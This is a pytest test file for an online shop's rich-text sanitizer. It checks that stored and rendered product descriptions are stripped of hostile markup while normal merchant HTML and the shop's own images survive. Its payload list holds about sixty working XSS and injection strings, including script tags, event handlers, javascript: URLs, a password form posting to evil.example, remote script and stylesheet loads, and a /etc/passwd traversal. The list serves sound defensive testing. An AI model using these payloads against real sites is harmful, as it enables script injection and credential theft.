"""Rich text is harmless when stored and again when read."""

import re
from html.parser import HTMLParser

import pytest

from shop.catalog import richtext
from shop.catalog.models import Product
from tests.conftest import body
from tests.shop.catalogue import product

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src=x:x onerror="alert(1)">',
    "<img/src='x'/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="data:image/png;base64,AAAA">',
    '<img src="https://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif">',
    '<img srcset="https://evil.example/a.png 1x">',
    '<img src="media:00000000-0000-4000-8000-000000000000/p/aa/aaaaaaaaaaaa.webp">',
    '<img src="/media/../../etc/passwd">',
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math href="javascript:alert(1)">x</math>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="/admin/logout/">x</a>',
    '<a href="//evil.example">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>*{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name=password><button>x</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<p onmouseover=alert(1)>x</p>",
    "<p id=cookie class=admin name=x>x</p>",
    "<img alt='\"><script>alert(1)</script>' src=x>",
    "<a href='https://a.example/\" onclick=alert(1) x=\"'>x</a>",
    '<img src="media:OWN/p/aa/aaaaaaaaaaaa.webp" alt=\'" src="media:https://evil.example/x"\'>',
    '<img alt=\'<img src="media:evil"\' src="media:OWN/p/aa/aaaaaaaaaaaa.webp">',
    "<p>\x00<script\x00>alert(1)</script></p>",
]
ALLOWED = {name: set() for name in richtext.TAGS} | {name: set(names) for name, names in richtext.ATTRIBUTES.items()}
ALLOWED["a"] |= {"rel"}


class Judge(HTMLParser):
    """Reads markup as a browser does and notes what must not be there."""

    def __init__(self, own):
        super().__init__()
        self.own, self.wrong = own, []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in ALLOWED.get(tag, ()):
                self.wrong.append(f"{tag} {name}")
            if name == "src" and not re.fullmatch(rf"(media:|/media/){self.own}/p/[\w/.-]+", value):
                self.wrong.append(f"src {value}")
            if name == "href" and not value.lower().startswith(("http://", "https://", "tel:", "mailto:")):
                self.wrong.append(f"href {value}")


def judged(html, own):
    judge = Judge(own)
    judge.feed(html)
    return judge.wrong


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_markup_is_harmless_when_stored_and_when_read(shop, api, payload):
    payload = payload.replace("OWN", str(shop.uuid))
    stored = richtext.clean(payload)
    assert judged(stored, shop.uuid) == []
    assert "alert(1)</script" not in stored.lower() or "&lt;" in stored
    assert richtext.clean(stored) == stored
    saved = product()
    Product.objects.filter(pk=saved.pk).update(detail_html=payload.replace("\x00", ""))  # as if it came in otherwise
    shown = body(api.get(f"/api/v1/products/{saved.key}"))["detail_html"]
    assert judged(shown, shop.uuid) == []


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize(
    "html",
    [
        "<h2>标题</h2><p><strong>粗</strong><em>斜</em><u>线</u><br>下一行</p>",
        '<ul><li>一</li></ul><ol start="2"><li>二</li></ol><hr><blockquote>引</blockquote>',
        '<table><tbody><tr><th colspan="2">尺码</th></tr><tr><td>M</td><td>L</td></tr></tbody></table>',
        '<a href="https://a.example/?a=1&amp;b=2" rel="noopener noreferrer">链接</a>',
    ],
)
def test_what_merchants_write_stays_as_it_is(shop, html):
    assert richtext.clean(html) == html
    assert richtext.rendered(html) == html


@pytest.mark.parametrize(
    "before", ["/media/", "/s/k/media/", "https://cdn.example/", "http://alpha.localhost:1/media/", "media:"]
)
def test_a_picture_of_the_shop_is_stored_by_name_and_read_by_its_address(shop, before):
    name = f"{shop.uuid}/p/aa/0123456789abcdef.webp"
    stored = richtext.clean(f'<p><img alt="茶" src="{before}{name}"></p>')
    assert stored == f'<p><img alt="茶" src="media:{name}"></p>'
    assert richtext.rendered(stored) == f'<p><img alt="茶" src="/media/{name}"></p>'


def test_another_shops_picture_is_no_picture(shop, other_shop):
    assert richtext.clean(f'<p>a<img src="/media/{other_shop.uuid}/p/aa/0123456789abcdef.webp">b</p>') == "<p>ab</p>"
